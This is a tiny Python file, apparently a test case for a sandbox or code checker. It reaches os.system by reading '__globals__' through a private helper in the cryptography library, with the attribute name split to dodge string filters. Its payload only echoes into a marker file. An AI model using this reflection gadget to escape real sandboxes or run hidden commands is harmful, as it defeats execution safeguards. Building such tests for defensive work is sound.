# rule: reflection
# marker: pwned_f1_sequence
# Family 1: cryptography's _make_sequence_methods builds accessors that
# read the attribute a string names from any object.
import glob
from cryptography.x509.extensions import _make_sequence_methods

_, _, item = _make_sequence_methods("__glo" + "bals__")
item(glob.glob, "os").system("echo ran > pwned_f1_sequence")
